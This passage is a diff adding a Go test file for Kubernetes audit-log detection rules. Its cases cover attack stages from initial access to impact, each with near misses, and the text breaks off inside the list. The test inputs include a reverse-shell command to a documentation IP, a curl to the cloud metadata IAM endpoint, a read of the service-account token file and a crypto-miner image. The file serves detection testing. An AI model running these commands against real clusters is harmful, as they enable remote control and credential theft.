@@ -1,0 +1,331 @@
+package detect
+
+import (
+	"fmt"
+	"net/netip"
+	"sort"
+	"strings"
+	"testing"
+)
+
+// ruleCase: the events (each repeated n times, or built by each) go through
+// an engine holding every built-in rule; fire says whether rule must alert.
+type ruleCase struct {
+	rule string
+	name string
+	fire bool
+	e    E
+	n    int
+	each func(i int) E
+	opts Options
+	// msg, when set, must be in the alert's message.
+	msg string
+}
+
+const (
+	podPrivileged   = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p","namespace":"default"},"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"privileged":true}}]}}`
+	podPlain        = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p","namespace":"default"},"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"privileged":false,"allowPrivilegeEscalation":false}}]}}`
+	deployInitPriv  = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web"},"spec":{"template":{"spec":{"initContainers":[{"name":"init","image":"busybox","securityContext":{"privileged":true}}],"containers":[{"name":"c","image":"nginx"}]}}}}`
+	cronJobHostPID  = `{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"cj"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"hostPID":true,"containers":[{"name":"c","image":"busybox"}]}}}}}}`
+	dsHostNet       = `{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"ds"},"spec":{"template":{"spec":{"hostNetwork":false,"hostIPC":false,"containers":[{"name":"c","image":"busybox"}]}}}}`
+	podHostPathEtc  = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"volumes":[{"name":"v","hostPath":{"path":"/var/../etc/kubernetes/pki/"}}],"containers":[{"name":"c","image":"busybox"}]}}`
+	stsHostPathData = `{"kind":"StatefulSet","apiVersion":"apps/v1","metadata":{"name":"db"},"spec":{"template":{"spec":{"volumes":[{"name":"v","hostPath":{"path":"/mnt/data"}}],"containers":[{"name":"c","image":"postgres"}]}}}}`
+	podCapSysAdmin  = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"capabilities":{"add":["cap_sys_admin"]}}}]}}`
+	podCapNetBind   = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"capabilities":{"add":["NET_BIND_SERVICE"],"drop":["SYS_ADMIN"]}}}]}}`
+	minerJob        = `{"kind":"Job","apiVersion":"batch/v1","metadata":{"name":"j"},"spec":{"template":{"spec":{"containers":[{"name":"c","image":"docker.io/evil/xmrig:6.21"}]}}}}`
+	crbClusterAdmin = `{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"pwn"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"mallory"}]}`
+	rbRoleNamedCA   = `{"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x","namespace":"dev"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"cluster-admin"},"subjects":[{"kind":"User","name":"bob"}]}`
+	rbAuthenticated = `{"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x","namespace":"dev"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"},"subjects":[{"kind":"Group","name":"system:authenticated","apiGroup":"rbac.authorization.k8s.io"}]}`
+	rbGroupDev      = `{"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x","namespace":"dev"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"},"subjects":[{"kind":"Group","name":"dev"},{"kind":"ServiceAccount","name":"system:anonymous","namespace":"dev"}]}`
+	roleWildVerb    = `{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"r","namespace":"dev"},"rules":[{"apiGroups":[""],"resources":["configmaps"],"verbs":["*"]}]}`
+	roleReadPods    = `{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"r"},"rules":[{"apiGroups":[""],"resources":["pods","pods/log"],"verbs":["get","list","watch"]}]}`
+	roleEscalate    = `{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"r"},"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["get","escalate"]}]}`
+	roleSecrets     = `{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"r","namespace":"dev"},"rules":[{"apiGroups":[""],"resources":["secrets","configmaps"],"verbs":["get"]},{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}]}`
+	svcNodePort     = `{"kind":"Service","apiVersion":"v1","metadata":{"name":"s"},"spec":{"type":"NodePort","ports":[{"port":80}]}}`
+	svcClusterIP    = `{"kind":"Service","apiVersion":"v1","metadata":{"name":"s"},"spec":{"type":"ClusterIP","ports":[{"port":80}]}}`
+	tokenReq48h     = `{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","spec":{"audiences":["https://kubernetes.default.svc"],"expirationSeconds":172800}}`
+	tokenReq1h      = `{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","spec":{"audiences":["https://kubernetes.default.svc"],"expirationSeconds":3600}}`
+	legacySecret    = `{"kind":"Secret","apiVersion":"v1","metadata":{"name":"t","annotations":{"kubernetes.io/service-account.name":"default"}},"type":"kubernetes.io/service-account-token"}`
+	opaqueSecret    = `{"kind":"Secret","apiVersion":"v1","metadata":{"name":"t"},"type":"Opaque","data":{"a":"Yg=="}}`
+	nsPrivileged    = `{"kind":"Namespace","apiVersion":"v1","metadata":{"name":"dev","labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`
+	nsBaseline      = `{"kind":"Namespace","apiVersion":"v1","metadata":{"name":"dev","labels":{"pod-security.kubernetes.io/enforce":"baseline","pod-security.kubernetes.io/warn":"privileged"}}}`
+	podCtrlSA       = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"serviceAccountName":"clusterrole-aggregation-controller","containers":[{"name":"c","image":"busybox"}]}}`
+	podCoreDNSSA    = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"serviceAccountName":"coredns","containers":[{"name":"c","image":"busybox"}]}}`
+	csrClient       = `{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"c"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client","request":"LS0t","usages":["client auth"]}}`
+	ephemeralPatch  = `{"spec":{"ephemeralContainers":[{"name":"debugger","image":"busybox:1.36","targetContainerName":"app"}]}}`
+	patchToNodePort = `{"spec":{"type":"NodePort"}}`
+	statusNotFound  = `{"kind":"Status","apiVersion":"v1","status":"Failure","code":404}`
+)
+
+var sa = "system:serviceaccount:default:app"
+
+func execURI(cmd ...string) string {
+	u := "/api/v1/namespaces/default/pods/web-0/exec?container=web"
+	for _, c := range cmd {
+		u += "&command=" + strings.NewReplacer(" ", "+", "/", "%2F", "|", "%7C", "&", "%26").Replace(c)
+	}
+	return u + "&stdin=true&stdout=true&tty=true"
+}
+
+func ruleCases() []ruleCase {
+	anon := func(e E) E { return e.user("system:anonymous", "system:unauthenticated") }
+	ctrl := "system:serviceaccount:kube-system:replicaset-controller"
+	node := func(e E) E { return e.user("system:node:n1", "system:nodes", "system:authenticated") }
+	return []ruleCase{
+		// Initial access
+		{rule: "AG-DET-101", name: "anonymous list secrets", fire: true, e: anon(ev("list", "secrets"))},
+		{rule: "AG-DET-101", name: "anonymous non-resource path behind a health prefix", fire: true, e: anon(ev("get", "").uri("/healthz/../api/v1/secrets"))},
+		{rule: "AG-DET-101", name: "near miss: anonymous livez sub-check", fire: false, e: anon(ev("get", "").uri("/livez/etcd?verbose"))},
+		{rule: "AG-DET-101", name: "near miss: anonymous version", fire: false, e: anon(ev("get", "").uri("/version"))},
+		{rule: "AG-DET-101", name: "near miss: anonymous denied", fire: false, e: anon(ev("list", "secrets")).forbid()},
+		{rule: "AG-DET-102", name: "anonymous create pod", fire: true, e: anon(ev("create", "pods").ns("default"))},
+		{rule: "AG-DET-102", name: "near miss: anonymous create denied", fire: false, e: anon(ev("create", "pods").ns("default")).forbid()},
+		{rule: "AG-DET-103", name: "20 failed logins from one address", fire: true, n: 20, e: ev("list", "namespaces").user("").noDecision().code(401).ips("203.0.113.7")},
+		{rule: "AG-DET-103", name: "near miss: 19 failures", fire: false, n: 19, e: ev("list", "namespaces").user("").noDecision().code(401).ips("203.0.113.7")},
+		{rule: "AG-DET-103", name: "near miss: 20 failures spread over addresses", fire: false, each: func(i int) E {
+			return ev("list", "namespaces").user("").noDecision().code(401).ips(fmt.Sprintf("203.0.113.%d", i%2))
+		}, n: 20},
+		{rule: "AG-DET-104", name: "request from outside", fire: true, e: ev("get", "pods").ns("default").ips("198.51.100.9"), opts: Options{AllowCIDRs: prefixes("10.0.0.0/8")}},
+		{rule: "AG-DET-104", name: "forged X-Forwarded-For does not hide the peer", fire: true, e: ev("get", "pods").ips("10.1.1.1", "198.51.100.9"), opts: Options{AllowCIDRs: prefixes("10.0.0.0/8")}},
+		{rule: "AG-DET-104", name: "near miss: inside", fire: false, e: ev("get", "pods").ips("10.1.2.3"), opts: Options{AllowCIDRs: prefixes("10.0.0.0/8")}},
+		{rule: "AG-DET-105", name: "SA token from outside pod and node ranges", fire: true, msg: "bound to pod web-0",
+			e:    ev("get", "secrets").ns("default").user(sa).extra("authentication.kubernetes.io/pod-name", "web-0").ips("198.51.100.9"),
+			opts: Options{PodCIDRs: prefixes("10.244.0.0/16"), NodeCIDRs: prefixes("192.168.1.0/24")}},
+		{rule: "AG-DET-105", name: "near miss: SA token from a node", fire: false, e: ev("get", "secrets").user(sa).ips("192.168.1.20"),
+			opts: Options{PodCIDRs: prefixes("10.244.0.0/16"), NodeCIDRs: prefixes("192.168.1.0/24")}},
+		{rule: "AG-DET-105", name: "near miss: a person from outside", fire: false, e: ev("get", "secrets").ips("198.51.100.9"),
+			opts: Options{PodCIDRs: prefixes("10.244.0.0/16")}},
+		{rule: "AG-DET-106", name: "node created by a user", fire: true, e: ev("create", "nodes").name("rogue")},
+		{rule: "AG-DET-106", name: "near miss: kubelet registers itself", fire: false, e: node(ev("create", "nodes").name("n1"))},
+		{rule: "AG-DET-107", name: "NodePort service created", fire: true, e: ev("create", "services").ns("default").req(svcNodePort)},
+		{rule: "AG-DET-107", name: "patch to NodePort read from the response", fire: true, e: ev("patch", "services").ns("default").name("s").req(patchToNodePort).resp(svcNodePort)},
+		{rule: "AG-DET-107", name: "near miss: ClusterIP service", fire: false, e: ev("create", "services").ns("default").req(svcClusterIP)},
+
+		// Execution
+		{rule: "AG-DET-201", name: "exec over websocket (get), command decoded", fire: true, msg: "cat /etc/hostname",
+			e: ev("get", "pods/exec").ns("default").name("web-0").uri(execURI("cat", "/etc/hostname")).code(101)},
+		{rule: "AG-DET-201", name: "exec with create that the kubelet failed", fire: true, e: ev("create", "pods/exec").ns("default").name("web-0").code(400)},
+		{rule: "AG-DET-201", name: "near miss: exec denied", fire: false, e: ev("create", "pods/exec").ns("default").name("web-0").forbid()},
+		{rule: "AG-DET-201", name: "near miss: pods/log", fire: false, e: ev("get", "pods/log").ns("default").name("web-0")},
+		{rule: "AG-DET-202", name: "attach", fire: true, e: ev("get", "pods/attach").ns("default").name("web-0")},
+		{rule: "AG-DET-202", name: "near miss: attach denied", fire: false, e: ev("create", "pods/attach").ns("default").name("web-0").forbid()},
+		{rule: "AG-DET-203", name: "reverse shell", fire: true, e: ev("create", "pods/exec").ns("default").name("web-0").uri(execURI("bash", "-c", "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"))},
+		{rule: "AG-DET-203", name: "metadata service", fire: true, e: ev("create", "pods/exec").ns("default").name("web-0").uri(execURI("curl", "-s", "http://169.254.169.254/latest/meta-data/iam/"))},
+		{rule: "AG-DET-203", name: "near miss: ordinary command", fire: false, e: ev("create", "pods/exec").ns("default").name("web-0").uri(execURI("ls", "-la", "/tmp"))},
+		{rule: "AG-DET-204", name: "port-forward", fire: true, e: ev("create", "pods/portforward").ns("default").name("db-0").uri("/api/v1/namespaces/default/pods/db-0/portforward?ports=5432")},
+		{rule: "AG-DET-204", name: "near miss: denied", fire: false, e: ev("get", "pods/portforward").ns("default").name("db-0").forbid()},
+		{rule: "AG-DET-205", name: "service proxy", fire: true, e: ev("get", "services/proxy").ns("default").name("web:80")},
+		{rule: "AG-DET-205", name: "near miss: services get", fire: false, e: ev("get", "services").ns("default").name("web")},
+		{rule: "AG-DET-206", name: "ephemeral container patch", fire: true, msg: "busybox:1.36", e: ev("patch", "pods/ephemeralcontainers").ns("default").name("web-0").req(ephemeralPatch)},
+		{rule: "AG-DET-206", name: "near miss: read ephemeralcontainers", fire: false, e: ev("get", "pods/ephemeralcontainers").ns("default").name("web-0")},
+		{rule: "AG-DET-207", name: "pod in kube-system by a person", fire: true, e: ev("create", "pods").ns("kube-system").req(podPlain)},
+		{rule: "AG-DET-207", name: "near miss: mirror pod by kubelet", fire: false, e: node(ev("create", "pods").ns("kube-system").req(podPlain))},
+		{rule: "AG-DET-207", name: "near miss: pod by the ReplicaSet controller", fire: false, e: ev("create", "pods").ns("kube-system").user(ctrl).req(podPlain)},
+
+		// Persistence
+		{rule: "AG-DET-301", name: "SA in kube-system", fire: true, e: ev("create", "serviceaccounts").ns("kube-system").name("backdoor")},
+		{rule: "AG-DET-301", name: "near miss: SA in an app namespace", fire: false, e: ev("create", "serviceaccounts").ns("default").name("app")},
+		{rule: "AG-DET-301", name: "near miss: service-account controller", fire: false, e: ev("create", "serviceaccounts").ns("kube-public").name("default").user("system:serviceaccount:kube-system:service-account-controller")},
+		{rule: "AG-DET-302", name: "token for a kube-system SA", fire: true, e: ev("create", "serviceaccounts/token").ns("kube-system").name("clusterrole-aggregation-controller")},
+		{rule: "AG-DET-302", name: "near miss: kubelet projected token", fire: false, e: node(ev("create", "serviceaccounts/token").ns("kube-system").name("coredns"))},
+		{rule: "AG-DET-303", name: "48h token", fire: true, msg: "48h", e: ev("create", "serviceaccounts/token").ns("default").name("app").req(tokenReq48h)},
+		{rule: "AG-DET-303", name: "near miss: 1h token", fire: false, e: ev("create", "serviceaccounts/token").ns("default").name("app").req(tokenReq1h)},
+		{rule: "AG-DET-304", name: "person mints a token", fire: true, e: ev("create", "serviceaccounts/token").ns("default").name("app")},
+		{rule: "AG-DET-304", name: "near miss: SA mints a token", fire: false, e: ev("create", "serviceaccounts/token").ns("default").name("app").user(sa)},
+		{rule: "AG-DET-305", name: "legacy token secret", fire: true, e: ev("create", "secrets").ns("default").req(legacySecret)},
+		{rule: "AG-DET-305", name: "near miss: Opaque secret", fire: false, e: ev("create", "secrets").ns("default").req(opaqueSecret)},
+		{rule: "AG-DET-306", name: "client CSR by a person", fire: true, msg: "kube-apiserver-client", e: ev("create", "certificatesigningrequests.certificates.k8s.io").req(csrClient)},
+		{rule: "AG-DET-306", name: "near miss: bootstrap token", fire: false, e: ev("create", "certificatesigningrequests.certificates.k8s.io").user("system:bootstrap:abcdef", "system:bootstrappers:kubeadm:default-node-token").req(csrClient)},
+		{rule: "AG-DET-307", name: "CSR approved by a person", fire: true, e: ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("c")},
+		{rule: "AG-DET-307", name: "near miss: approved by the controller", fire: false, e: ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("c").user("system:serviceaccount:kube-system:certificate-controller")},
+		{rule: "AG-DET-308", name: "mutating webhook created", fire: true, e: ev("create", "mutatingwebhookconfigurations.admissionregistration.k8s.io").name("inject")},
+		{rule: "AG-DET-308", name: "validating webhook deleted", fire: true, e: ev("delete", "validatingwebhookconfigurations.admissionregistration.k8s.io").name("policy")},
+		{rule: "AG-DET-308", name: "near miss: webhook read", fire: false, e: ev("get", "validatingwebhookconfigurations.admissionregistration.k8s.io").name("policy")},
+		{rule: "AG-DET-309", name: "APIService created", fire: true, e: ev("create", "apiservices.apiregistration.k8s.io").name("v1beta1.metrics.k8s.io")},
+		{rule: "AG-DET-309", name: "near miss: apiserver's autoregistration", fire: false, e: ev("update", "apiservices.apiregistration.k8s.io").name("v1.apps").user("system:apiserver", "system:masters")},
+		{rule: "AG-DET-310", name: "DaemonSet by a person", fire: true, e: ev("create", "daemonsets.apps").ns("default").name("ds")},
+		{rule: "AG-DET-310", name: "near miss: status update by the controller", fire: false, e: ev("update", "daemonsets.apps/status").ns("default").name("ds").user("system:serviceaccount:kube-system:daemon-set-controller")},
+		{rule: "AG-DET-311", name: "CronJob created", fire: true, e: ev("create", "cronjobs.batch").ns("default").name("cj")},
+		{rule: "AG-DET-311", name: "near miss: CronJob status by the controller", fire: false, e: ev("update", "cronjobs.batch/status").ns("default").name("cj").user("system:serviceaccount:kube-system:cronjob-controller")},
+		{rule: "AG-DET-312", name: "kube-proxy config changed", fire: true, e: ev("patch", "configmaps").ns("kube-system").name("kube-proxy")},
+		{rule: "AG-DET-312", name: "near miss: root CA publisher", fire: false, e: ev("update", "configmaps").ns("kube-system").name("kube-root-ca.crt").user("system:serviceaccount:kube-system:root-ca-cert-publisher")},
+		{rule: "AG-DET-312", name: "near miss: coredns has its own rule", fire: false, e: ev("update", "configmaps").ns("kube-system").name("coredns")},
+		{rule: "AG-DET-313", name: "aws-auth changed", fire: true, e: ev("update", "configmaps").ns("kube-system").name("aws-auth")},
+		{rule: "AG-DET-313", name: "near miss: aws-auth read", fire: false, e: ev("get", "configmaps").ns("kube-system").name("aws-auth")},
+
+		// Privilege escalation
+		{rule: "AG-DET-401", name: "cluster-admin ClusterRoleBinding", fire: true, msg: "User mallory", e: ev("create", "clusterrolebindings.rbac.authorization.k8s.io").req(crbClusterAdmin)},
+		{rule: "AG-DET-401", name: "RoleBinding to cluster-admin via patch (response)", fire: true, e: ev("patch", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("x").req(`{"roleRef":null}`).resp(strings.Replace(crbClusterAdmin, "ClusterRoleBinding", "RoleBinding", 1))},
+		{rule: "AG-DET-401", name: "near miss: Role named cluster-admin", fire: false, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").req(rbRoleNamedCA)},
+		{rule: "AG-DET-402", name: "binding to system:authenticated", fire: true, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").req(rbAuthenticated)},
+		{rule: "AG-DET-402", name: "near miss: ServiceAccount oddly named system:anonymous", fire: false, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").req(rbGroupDev)},
+		{rule: "AG-DET-402", name: "near miss: API server bootstrap binding", fire: false, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").user("system:apiserver", "system:masters").req(rbAuthenticated)},
+		{rule: "AG-DET-403", name: "Role with verb wildcard", fire: true, e: ev("create", "roles.rbac.authorization.k8s.io").ns("dev").req(roleWildVerb)},
+		{rule: "AG-DET-403", name: "near miss: plain role", fire: false, e: ev("create", "clusterroles.rbac.authorization.k8s.io").req(roleReadPods)},
+		{rule: "AG-DET-403", name: "near miss: aggregation controller", fire: false, e: ev("update", "clusterroles.rbac.authorization.k8s.io").name("admin").user("system:serviceaccount:kube-system:clusterrole-aggregation-controller").req(roleWildVerb)},
+		{rule: "AG-DET-404", name: "escalate verb", fire: true, e: ev("create", "clusterroles.rbac.authorization.k8s.io").req(roleEscalate)},
+		{rule: "AG-DET-404", name: "near miss: plain role", fire: false, e: ev("create", "clusterroles.rbac.authorization.k8s.io").req(roleReadPods)},
+		{rule: "AG-DET-405", name: "role granting secrets and pods/exec", fire: true, msg: "secrets, pods/exec", e: ev("create", "roles.rbac.authorization.k8s.io").ns("dev").req(roleSecrets)},
+		{rule: "AG-DET-405", name: "near miss: pods and pods/log", fire: false, e: ev("create", "clusterroles.rbac.authorization.k8s.io").req(roleReadPods)},
+		{rule: "AG-DET-406", name: "SA writes a RoleBinding", fire: true, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("default").user(sa).req(rbGroupDev)},
+		{rule: "AG-DET-406", name: "near miss: SA reads RBAC", fire: false, e: ev("list", "rolebindings.rbac.authorization.k8s.io").ns("default").user(sa)},
+		{rule: "AG-DET-407", name: "system:node ClusterRole patched", fire: true, e: ev("patch", "clusterroles.rbac.authorization.k8s.io").name("system:node")},
+		{rule: "AG-DET-407", name: "near miss: reconciled by the API server", fire: false, e: ev("update", "clusterroles.rbac.authorization.k8s.io").name("system:node").user("system:apiserver", "system:masters")},
+		{rule: "AG-DET-408", name: "impersonating group system:masters", fire: true, msg: "system:masters", e: ev("list", "secrets").imp("whoever", "system:masters")},
+		{rule: "AG-DET-408", name: "impersonating a node, denied by the authorizer afterwards", fire: true, e: ev("get", "nodes").imp("system:node:n1").forbid()},
+		{rule: "AG-DET-408", name: "near miss: impersonating an ordinary user", fire: false, e: ev("list", "pods").imp("bob", "dev")},
+		{rule: "AG-DET-408", name: "near miss: impersonation refused", fire: false, e: ev("list", "pods").imp("system:admin").noDecision().code(403)},
+		{rule: "AG-DET-409", name: "privileged pod rejected by Pod Security", fire: true, msg: "failed: 403", e: ev("create", "pods").ns("default").req(podPrivileged).code(403)},
+		{rule: "AG-DET-409", name: "privileged init container in a Deployment template", fire: true, msg: "init", e: ev("create", "deployments.apps").ns("default").req(deployInitPriv)},
+		{rule: "AG-DET-409", name: "near miss: privileged false", fire: false, e: ev("create", "pods").ns("default").req(podPlain)},
+		{rule: "AG-DET-409", name: "near miss: pod copied from a template by the controller", fire: false, e: ev("create", "pods").ns("default").user(ctrl).req(podPrivileged)},
+		{rule: "AG-DET-410", name: "hostPID in a CronJob template", fire: true, msg: "hostPID", e: ev("create", "cronjobs.batch").ns("default").req(cronJobHostPID)},
+		{rule: "AG-DET-410", name: "near miss: host namespaces false", fire: false, e: ev("create", "daemonsets.apps").ns("default").req(dsHostNet)},
+		{rule: "AG-DET-411", name: "unclean path to /etc/kubernetes/pki", fire: true, msg: "/etc/kubernetes/pki", e: ev("create", "pods").ns("default").req(podHostPathEtc)},
+		{rule: "AG-DET-411", name: "near miss: /mnt/data", fire: false, e: ev("create", "statefulsets.apps").ns("default").req(stsHostPathData)},
+		{rule: "AG-DET-412", name: "hostPath /mnt/data in a StatefulSet", fire: true, e: ev("create", "statefulsets.apps").ns("default").req(stsHostPathData)},
+		{rule: "AG-DET-412", name: "near miss: sensitive path is the other rule", fire: false, e: ev("create", "pods").ns("default").req(podHostPathEtc)},
+		{rule: "AG-DET-413", name: "cap_sys_admin lower case", fire: true, e: ev("create", "pods").ns("default").req(podCapSysAdmin)},
+		{rule: "AG-DET-413", name: "near miss: NET_BIND_SERVICE, SYS_ADMIN dropped", fire: false, e: ev("create", "pods").ns("default").req(podCapNetBind)},
+		{rule: "AG-DET-414", name: "kubelet /run via nodes/proxy", fire: true, e: ev("create", "nodes/proxy").name("n1").uri("/api/v1/nodes/n1/proxy/run/default/web-0/web?cmd=id")},
+		{rule: "AG-DET-414", name: "near miss: nodes/status", fire: false, e: ev("get", "nodes/status").name("n1")},
+		{rule: "AG-DET-415", name: "pod with a controller SA in kube-system", fire: true, e: ev("create", "pods").ns("kube-system").req(podCtrlSA)},
+		{rule: "AG-DET-415", name: "near miss: coredns SA", fire: false, e: ev("create", "pods").ns("kube-system").req(podCoreDNSSA)},
+
+		// Defense evasion
+		{rule: "AG-DET-501", name: "events deleted (events.k8s.io)", fire: true, e: ev("deletecollection", "events.events.k8s.io").ns("default")},
+		{rule: "AG-DET-501", name: "near miss: namespace controller", fire: false, e: ev("deletecollection", "events").ns("gone").user("system:serviceaccount:kube-system:namespace-controller")},
+		{rule: "AG-DET-502", name: "VAP deleted", fire: true, e: ev("delete", "validatingadmissionpolicies.admissionregistration.k8s.io").name("require-labels")},
+		{rule: "AG-DET-502", name: "near miss: VAP created", fire: false, e: ev("create", "validatingadmissionpolicies.admissionregistration.k8s.io").name("require-labels")},
+		{rule: "AG-DET-503", name: "namespace set to privileged", fire: true, e: ev("patch", "namespaces").name("dev").req(nsPrivileged)},
+		{rule: "AG-DET-503", name: "near miss: baseline", fire: false, e: ev("patch", "namespaces").name("dev").req(nsBaseline)},
+		{rule: "AG-DET-504", name: "truncated event", fire: true, e: ev("create", "configmaps").ns("default").ann("audit.k8s.io/truncated", "true")},
+		{rule: "AG-DET-504", name: "near miss: not truncated", fire: false, e: ev("create", "configmaps").ns("default").ann("audit.k8s.io/truncated", "false")},
+		{rule: "AG-DET-505", name: "falco DaemonSet deleted", fire: true, e: ev("delete", "daemonsets.apps").ns("falco").name("falco")},
+		{rule: "AG-DET-505", name: "near miss: app deleted", fire: false, e: ev("delete", "daemonsets.apps").ns("web").name("nginx")},
+
+		// Credential access
+		{rule: "AG-DET-601", name: "watch secrets cluster-wide", fire: true, e: ev("watch", "secrets").uri("/api/v1/secrets?watch=true&labelSelector=a%3Db")},
+		{rule: "AG-DET-601", name: "near miss: list in own namespace", fire: false, e: ev("list", "secrets").ns("dev")},
+		{rule: "AG-DET-601", name: "near miss: garbage collector", fire: false, e: ev("list", "secrets").user("system:serviceaccount:kube-system:generic-garbage-collector")},
+		{rule: "AG-DET-602", name: "SA reads another namespace", fire: true, e: ev("get", "secrets").ns("prod").name("db").user(sa)},
+		{rule: "AG-DET-602", name: "near miss: SA reads its own namespace", fire: false, e: ev("get", "secrets").ns("default").name("db").user(sa)},
+		{rule: "AG-DET-603", name: "person reads a kube-system secret", fire: true, e: ev("get", "secrets").ns("kube-system").name("bootstrap-token-abcdef")},
+		{rule: "AG-DET-603", name: "near miss: kubelet reads a secret for its pod", fire: false, e: node(ev("get", "secrets").ns("kube-system").name("kube-proxy-token"))},
+		{rule: "AG-DET-604", name: "curl reads a secret", fire: true, e: ev("get", "secrets").ns("default").name("db").ua("curl/8.5.0")},
+		{rule: "AG-DET-604", name: "near miss: kubectl", fire: false, e: ev("get", "secrets").ns("default").name("db")},
+		{rule: "AG-DET-605", name: "10 distinct secrets", fire: true, n: 10, each: func(i int) E { return ev("get", "secrets").ns("default").name(fmt.Sprintf("s%d", i)) }},
+		{rule: "AG-DET-605", name: "near miss: the same secret 10 times", fire: false, n: 10, e: ev("get", "secrets").ns("default").name("s")},
+		{rule: "AG-DET-606", name: "SA token read by exec", fire: true, e: ev("get", "pods/exec").ns("default").name("web-0").uri(execURI("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"))},
+		{rule: "AG-DET-606", name: "near miss: harmless exec", fire: false, e: ev("get", "pods/exec").ns("default").name("web-0").uri(execURI("date"))},
+		{rule: "AG-DET-607", name: "legacy token", fire: true, e: ev("list", "pods").user(sa).ann("authentication.k8s.io/legacy-token", sa)},
+		{rule: "AG-DET-607", name: "near miss: bound token", fire: false, e: ev("list", "pods").user(sa).extra("authentication.kubernetes.io/credential-id", "JTI=1")},
+		{rule: "AG-DET-608", name: "stale token", fire: true, e: ev("list", "pods").user(sa).ann("authentication.k8s.io/stale-token", "subject: x, seconds after warning threshold: 10")},
+		{rule: "AG-DET-608", name: "near miss: fresh token", fire: false, e: ev("list", "pods").user(sa)},
+
+		// Discovery
+		{rule: "AG-DET-701", name: "20 denials for one user", fire: true, n: 20, e: ev("list", "secrets").forbid()},
+		{rule: "AG-DET-701", name: "near miss: 20 admission 403s", fire: false, n: 20, e: ev("create", "pods").ns("default").code(403)},
+		{rule: "AG-DET-702", name: "30 denials from one address over many users", fire: true, n: 30, each: func(i int) E {
+			return ev("list", "secrets").forbid().user(fmt.Sprintf("u%d", i)).ips("10.9.9.9")
+		}},
+		{rule: "AG-DET-702", name: "near miss: forged XFF spread over addresses, one peer... but 29", fire: false, n: 29, each: func(i int) E {
+			return ev("list", "secrets").forbid().user(fmt.Sprintf("u%d", i)).ips(fmt.Sprintf("1.1.1.%d", i), "10.9.9.9")
+		}},
+		{rule: "AG-DET-703", name: "SA denied", fire: true, e: ev("list", "secrets").user(sa).forbid()},
+		{rule: "AG-DET-703", name: "near miss: person denied", fire: false, e: ev("list", "secrets").forbid()},
+		{rule: "AG-DET-704", name: "SA runs auth can-i --list", fire: true, e: ev("create", "selfsubjectrulesreviews.authorization.k8s.io").user(sa)},
+		{rule: "AG-DET-704", name: "near miss: person runs can-i", fire: false, e: ev("create", "selfsubjectrulesreviews.authorization.k8s.io")},
+		{rule: "AG-DET-705", name: "rakkess", fire: true, e: ev("list", "pods").ua("rakkess/v0.5.0 (linux/amd64) kubernetes/$Format")},
+		{rule: "AG-DET-705", name: "near miss: kubectl", fire: false, e: ev("list", "pods")},
+
+		// Impact
+		{rule: "AG-DET-901", name: "deletecollection of pods", fire: true, e: ev("deletecollection", "pods").ns("prod")},
+		{rule: "AG-DET-901", name: "near miss: namespace controller", fire: false, e: ev("deletecollection", "pods").ns("gone").user("system:serviceaccount:kube-system:namespace-controller")},
+		{rule: "AG-DET-902", name: "20 deletes", fire: true, n: 20, each: func(i int) E { return ev("delete", "deployments.apps").ns("prod").name(fmt.Sprintf("d%d", i)) }},
+		{rule: "AG-DET-902", name: "near miss: garbage collector deletes", fire: false, n: 20, each: func(i int) E {
+			return ev("delete", "pods").ns("prod").name(fmt.Sprintf("p%d", i)).user("system:serviceaccount:kube-system:generic-garbage-collector")
+		}},
+		{rule: "AG-DET-903", name: "namespace deleted", fire: true, e: ev("delete", "namespaces").name("prod")},
+		{rule: "AG-DET-903", name: "near miss: namespace finalize by controller", fire: false, e: ev("delete", "namespaces").name("prod").user("system:serviceaccount:kube-system:namespace-controller")},
